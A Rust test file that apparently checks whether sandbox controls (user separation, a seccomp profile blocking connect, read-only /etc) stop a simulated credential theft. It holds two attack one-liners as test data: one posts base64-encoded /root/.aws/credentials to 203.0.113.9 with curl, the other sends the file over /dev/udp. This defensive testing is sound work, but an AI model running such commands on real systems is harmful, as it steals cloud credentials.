//! A goal that is a bait's leaving.

use crate::support::{How, Place};

fn validation(control: &str) -> String {
    format!(
        "detektr: 1\nattack: attack.sh\ngoal: exfiltrated('root_aws_*')\ncontrols: {{it: {control}}}\nbenign: twin.sh\n"
    )
}

#[test]
fn it_is_prevented_by_what_denies_the_bait_or_connections_and_by_nothing_else() {
    if !["/usr/bin/curl", "/bin/curl"].iter().any(|curl| std::path::Path::new(curl).exists()) {
        eprintln!("skipped: no curl");
        return;
    }
    for how in How::all() {
        let place = Place::new();
        place.write("attack.sh", "base64 -w0 /root/.aws/credentials | curl -s -m 9 --data-binary @- -o /dev/null http://203.0.113.9/; exit 0");
        place.write("twin.sh", "mkdir \"$HOME/d\"");
        place.write("profile.json", FORBIDS_CONNECT);
        place.write("denies.yaml", &validation("{user: user}"));
        place.write("forbids.yaml", &validation("{seccomp: profile.json}"));
        place.write("other.yaml", &validation("{read_only: /etc}"));
        // an environment with one user id has nobody else to be
        let files: &[&str] = if how.has_users() {
            &["denies.yaml", "forbids.yaml", "other.yaml"]
        } else {
            &["forbids.yaml", "other.yaml"]
        };
        let said = place.validate(how, files);
        for (name, wanted) in
            [("denies", "holds/prevented"), ("forbids", "holds/prevented"), ("other", "fails/goal_reached")]
        {
            if !files.iter().any(|file| file.starts_with(name)) {
                continue;
            }
            assert_eq!(said.answer(name, "mitigation"), wanted, "{how:?}: {}", said.stdout);
        }
    }
}

#[test]
fn where_nobody_looked_for_it_nobody_knows() {
    let how = How::all()[0];
    let place = Place::new();
    place.write("attack.sh", "cat /root/.aws/credentials > /dev/udp/203.0.113.9/9; exit 0");
    place.write("twin.sh", "mkdir \"$HOME/d\"");
    place.write("none.yaml", "detektr: 1\nnetwork: none\n");
    place.write("v.yaml", &validation("{read_only: /etc}"));
    let said = place.validate(how, &["v.yaml", "--env", "none.yaml"]);
    let answer = said.answer("v", "mitigation");
    assert!(answer.starts_with("inconclusive/"), "{answer}: {}", said.stdout);
    // of a bait that is not there
    place.write("v.yaml", &validation("{read_only: /etc}").replace("root_aws_*", "rot_aws_*"));
    let answer = place.validate(how, &["v.yaml"]).answer("v", "mitigation");
    assert!(answer.starts_with("inconclusive/"), "{answer}");
}

const FORBIDS_CONNECT: &str = r#"{
  "defaultAction": "SCMP_ACT_ALLOW",
  "archMap": [{"architecture": "SCMP_ARCH_X86_64", "subArchitectures": ["SCMP_ARCH_X86", "SCMP_ARCH_X32"]}],
  "syscalls": [{"names": ["connect"], "action": "SCMP_ACT_ERRNO"}]
}"#;
